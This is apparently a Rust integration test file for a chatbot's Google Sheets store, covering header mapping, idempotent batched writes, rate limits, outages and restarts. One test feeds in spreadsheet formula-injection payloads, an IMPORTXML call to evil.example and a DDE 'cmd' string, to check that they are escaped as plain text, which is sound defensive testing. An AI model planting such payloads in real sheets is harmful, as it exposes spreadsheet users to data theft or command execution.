//! Reads, batched idempotent writes, outages and restarts of the Sheets store.

use crate::fake::{FakeGoogle, Fault, Kind, Target};
use crate::harness::{drained, open, settings, started};
use crate::seed::{records, seed, seeded_fake_in_own_runtime};
use redsol::sheets::SheetsStore;
use redsol::store::sqlite::SqliteStore;
use redsol_actors::model::{
    Channel, ConversationKey, IncidentKind, NewIncident, NewProspect, Priority,
};
use redsol_actors::store::Store;
use std::collections::HashMap;
use std::path::Path;
use std::time::{Duration, Instant};

fn prospect(user: &str, name: &str) -> NewProspect {
    NewProspect {
        name: name.to_string(),
        phone: Some(format!("52144200{user}")),
        zone: "Norte".into(),
        plan_mbps: 50,
        price: 450,
        key: ConversationKey::new(Channel::WhatsApp, format!("52144200{user}")),
        outside_coverage: false,
        source: None,
    }
}

fn incident(description: &str) -> NewIncident {
    NewIncident {
        client_id: Some("CLI-0001".into()),
        client_name: "Ana Ruiz".into(),
        kind: IncidentKind::NoService,
        description: description.into(),
        priority: Priority::Alta,
        zone: Some("Norte".into()),
        phone: Some("4421110001".into()),
        key: ConversationKey::new(Channel::Telegram, "777"),
        source: None,
    }
}

fn ids(fake: &FakeGoogle, tab: &str) -> Vec<String> {
    records(fake, tab)
        .into_iter()
        .map(|r| r["ID"].clone())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_land_under_their_headers_whatever_the_column_order() {
    let (fake, _dir, store) = started(|_| {}).await;

    let clients = store.clients().await.expect("clients");
    assert_eq!(clients.len(), 3);
    assert_eq!(
        (
            clients[1].id.as_str(),
            clients[1].plan_mbps,
            clients[1].price,
            clients[1].phone.as_str()
        ),
        ("CLI-0002", 100, 600, "4421110002")
    );

    let p = store
        .save_prospect(prospect("01", "Ana López"))
        .await
        .expect("saved");
    let i = store
        .create_incident(incident("no hay internet desde ayer"))
        .await
        .expect("saved");
    assert_eq!(
        i.id, "INC-000042",
        "new IDs follow the largest in the sheet"
    );
    drained(&store, Duration::from_secs(20)).await;

    let prospects = records(&fake, "Prospectos");
    assert_eq!(prospects.len(), 1);
    let row = &prospects[0];
    for (header, value) in [
        ("ID", p.id.as_str()),
        ("Nombre", "Ana López"),
        ("Teléfono", "5214420001"),
        ("Zona", "Norte"),
        ("Plan", "50 Mbps"),
        ("Precio", "450"),
        ("Canal", "whatsapp"),
        ("Estado", "Nuevo"),
        ("Notas", ""),
    ] {
        assert_eq!(row[header], value, "{header}");
    }
    assert_eq!(row["Fecha"], p.created_at);

    let incidents = records(&fake, "Incidentes");
    assert_eq!(incidents.len(), 2);
    assert_eq!(
        incidents[0]["Seguimiento"], "llamar",
        "staff's own column is kept"
    );
    let row = &incidents[1];
    for (header, value) in [
        ("ID", "INC-000042"),
        ("ID Cliente", "CLI-0001"),
        ("Cliente", "Ana Ruiz"),
        ("Tipo", IncidentKind::NoService.label_es()),
        ("Descripción", "no hay internet desde ayer"),
        ("Prioridad", "Alta"),
        ("Estado", "Nuevo"),
        ("Técnico Asignado", "Sin asignar"),
        ("Seguimiento", ""),
    ] {
        assert_eq!(row[header], value, "{header}");
    }

    // Staff assign a technician in the sheet: the customer's status shows it.
    fake.edit(|tabs| {
        let tab = tabs.get_mut("Incidentes").expect("tab");
        let last = tab.len() - 1;
        tab[last][2] = "Pedro".into();
        tab[last][8] = "En proceso".into();
    });
    store.expire_cache();
    let mine = store
        .incidents_for(&ConversationKey::new(Channel::Telegram, "777"))
        .await
        .expect("incidents");
    assert_eq!(
        (mine[0].technician.as_str(), mine[0].status.as_str()),
        ("Pedro", "En proceso")
    );
    let open: HashMap<_, _> = store
        .open_incidents_by_priority()
        .await
        .expect("counts")
        .into_iter()
        .collect();
    assert_eq!(open[&Priority::Alta], 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_burst_of_500_registrations_lands_once_each_within_the_write_budget() {
    let (fake, _dir, store) = started(|s| s.sheets_tuning.writes_per_minute = 50).await;
    let started = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..500 {
        let store = store.clone();
        tasks.spawn(async move {
            store
                .save_prospect(prospect(&format!("{n:03}"), &format!("Cliente {n}")))
                .await
        });
    }
    while let Some(saved) = tasks.join_next().await {
        saved.expect("task").expect("saved");
    }
    drained(&store, Duration::from_secs(60)).await;
    let elapsed = started.elapsed();

    let mut landed = ids(&fake, "Prospectos");
    assert_eq!(landed.len(), 500);
    landed.sort();
    landed.dedup();
    assert_eq!(landed.len(), 500, "no row twice");
    let appends = fake.count(Kind::Append);
    // 50 writes a minute: at most one append every 1.2 s (plus the first, at once).
    let allowed = 1 + (elapsed.as_secs_f64() / 1.2) as usize;
    assert!(appends <= allowed, "{appends} appends in {elapsed:?}");
    println!("500 registrations: {appends} append requests in {elapsed:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_append_applied_then_cut_off_is_not_written_twice() {
    let (fake, _dir, store) = started(|_| {}).await;
    fake.apply_then_drop_next_appends(1);
    for n in 0..3 {
        store
            .save_prospect(prospect(&format!("{n}"), "Dora"))
            .await
            .expect("saved");
    }
    drained(&store, Duration::from_secs(20)).await;
    let landed = ids(&fake, "Prospectos");
    let mut unique = landed.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(landed.len(), 3, "{landed:?}");
    assert_eq!(unique.len(), 3, "{landed:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_looking_text_arrives_as_plain_text() {
    let (fake, _dir, store) = started(|_| {}).await;
    let evil = "=IMPORTXML(\"http://evil.example\",\"//a\")";
    store
        .save_prospect(prospect("9", evil))
        .await
        .expect("saved");
    store
        .create_incident(incident("+cmd|' /C calc'!A0"))
        .await
        .expect("saved");
    drained(&store, Duration::from_secs(20)).await;
    assert_eq!(
        records(&fake, "Prospectos")[0]["Nombre"],
        format!("'{evil}")
    );
    assert_eq!(
        records(&fake, "Incidentes")[1]["Descripción"],
        "'+cmd|' /C calc'!A0"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hundred_lookups_of_an_expired_tab_cost_one_read() {
    let (fake, _dir, store) = started(|_| {}).await;
    store.clients().await.expect("clients");
    let before = fake.count(Kind::Get);
    store.expire_cache();
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..100 {
        let store = store.clone();
        tasks.spawn(async move { store.clients().await.map(|c| c.len()) });
    }
    while let Some(n) = tasks.join_next().await {
        assert_eq!(n.expect("task").expect("clients"), 3);
    }
    assert_eq!(fake.count(Kind::Get) - before, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_missing_tab_or_column_is_named_at_start() {
    let fake = FakeGoogle::start().await;
    seed(&fake);
    fake.edit(|tabs| {
        let tab = tabs.get_mut("Clientes").expect("tab");
        tab[0][0] = "Celular".into();
    });
    let dir = tempfile::tempdir().expect("tempdir");
    let settings = settings(&fake, dir.path());
    let open = |dir: &Path| {
        let local = SqliteStore::open(&dir.join("data"), Vec::new).expect("sqlite");
        SheetsStore::open(
            settings.sheets.as_ref().expect("sheets"),
            &settings.sheets_tuning,
            local,
        )
    };
    let e = open(dir.path()).await.err().expect("refused");
    let message = format!("{e:#}");
    assert!(
        message.contains("\"Clientes\"") && message.contains("\"Teléfono\""),
        "{message}"
    );

    seed(&fake);
    fake.remove_tab("Prospectos");
    let dir2 = tempfile::tempdir().expect("tempdir");
    let e = open(dir2.path()).await.err().expect("refused");
    let message = format!("{e:#}");
    assert!(
        message.contains("\"Prospectos\"") && message.contains("Unable to parse range"),
        "{message}"
    );
}

#[test]
fn sheets_down_then_back_loses_nothing_across_a_restart() {
    let (fake_rt, fake) = seeded_fake_in_own_runtime();
    let dir = tempfile::tempdir().expect("tempdir");

    // First run: Sheets goes down after start; the bot keeps reading from its copy and
    // queues what it saves. Then the process stops (its runtime is dropped).
    {
        let rt = tokio::runtime::Runtime::new().expect("runtime");
        rt.block_on(async {
            let store = open(&fake, dir.path(), |_| {}).await;
            assert_eq!(store.clients().await.expect("clients").len(), 3);
            fake.inject(Target::AnySheets, Fault::Status(503), 100_000);
            store.expire_cache();
            assert_eq!(store.clients().await.expect("stale clients").len(), 3);
            store
                .save_prospect(prospect("1", "Eva"))
                .await
                .expect("saved while down");
            store
                .save_prospect(prospect("2", "Fer"))
                .await
                .expect("saved while down");
            assert_eq!(store.rows_pending().await.expect("outbox"), 2);
        });
    }
    assert!(ids(&fake, "Prospectos").is_empty());

    // Second run, Sheets still down: it starts from the copy saved in SQLite.
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    rt.block_on(async {
        let store = open(&fake, dir.path(), |_| {}).await;
        assert_eq!(
            store
                .clients()
                .await
                .expect("clients from the saved copy")
                .len(),
            3
        );
        assert_eq!(store.rows_pending().await.expect("outbox"), 2);
        store
            .save_prospect(prospect("3", "Gus"))
            .await
            .expect("saved");
        // Sheets is back: the outbox drains, each row once.
        fake.clear_faults();
        drained(&store, Duration::from_secs(30)).await;
    });
    let mut landed = ids(&fake, "Prospectos");
    landed.sort();
    assert_eq!(landed, ["PRO-000001", "PRO-000002", "PRO-000003"]);
    drop(fake_rt);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_token_is_replaced_and_writes_go_on() {
    let (fake, _dir, store) = started(|_| {}).await;
    let tokens = fake.token_requests();
    fake.revoke_tokens();
    store
        .save_prospect(prospect("5", "Hugo"))
        .await
        .expect("saved");
    drained(&store, Duration::from_secs(20)).await;
    assert_eq!(ids(&fake, "Prospectos").len(), 1);
    assert!(fake.token_requests() > tokens, "a new token was fetched");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn columns_moved_by_staff_between_writes_are_followed() {
    let (fake, _dir, store) = started(|_| {}).await;
    store
        .save_prospect(prospect("1", "Iris"))
        .await
        .expect("saved");
    drained(&store, Duration::from_secs(20)).await;
    // Staff swap "Nombre" and "Zona" (headers and the data under them).
    fake.edit(|tabs| {
        let tab = tabs.get_mut("Prospectos").expect("tab");
        let (a, b) = (5, 7);
        for row in tab.iter_mut() {
            row.swap(a, b);
        }
    });
    store
        .save_prospect(prospect("2", "Jose"))
        .await
        .expect("saved");
    drained(&store, Duration::from_secs(20)).await;
    let rows = records(&fake, "Prospectos");
    assert_eq!(rows.len(), 2);
    for (row, name) in rows.iter().zip(["Iris", "Jose"]) {
        assert_eq!(
            (row["Nombre"].as_str(), row["Zona"].as_str()),
            (name, "Norte")
        );
    }
}

#[test]
fn a_stop_in_the_middle_of_an_append_does_not_write_the_rows_twice() {
    let (fake_rt, fake) = seeded_fake_in_own_runtime();
    let dir = tempfile::tempdir().expect("tempdir");
    {
        // The append lands, then Google never answers, and redsol is stopped meanwhile.
        let rt = tokio::runtime::Runtime::new().expect("runtime");
        rt.block_on(async {
            let store = open(&fake, dir.path(), |s| {
                s.sheets_tuning.request_timeout_secs = 60
            })
            .await;
            fake.inject(Target::Append, Fault::ApplyThenHang, 1);
            store
                .save_prospect(prospect("1", "Lía"))
                .await
                .expect("saved");
            let start = Instant::now();
            while ids(&fake, "Prospectos").is_empty() {
                assert!(
                    start.elapsed() < Duration::from_secs(20),
                    "the append never arrived"
                );
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        });
        rt.shutdown_background();
    }
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    rt.block_on(async {
        let store = open(&fake, dir.path(), |_| {}).await;
        drained(&store, Duration::from_secs(20)).await;
    });
    assert_eq!(ids(&fake, "Prospectos"), ["PRO-000001"]);
    drop(fake_rt);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ids_typed_by_staff_after_start_are_not_repeated() {
    let (fake, _dir, store) = started(|_| {}).await;
    fake.edit(|tabs| {
        let tab = tabs.get_mut("Incidentes").expect("tab");
        let mut row = tab[1].clone();
        row[1] = "INC-000043".into();
        tab.push(row);
    });
    store.expire_cache();
    store.open_incidents_by_priority().await.expect("counts");
    let i = store
        .create_incident(incident("lento"))
        .await
        .expect("saved");
    assert_eq!(i.id, "INC-000044");
}
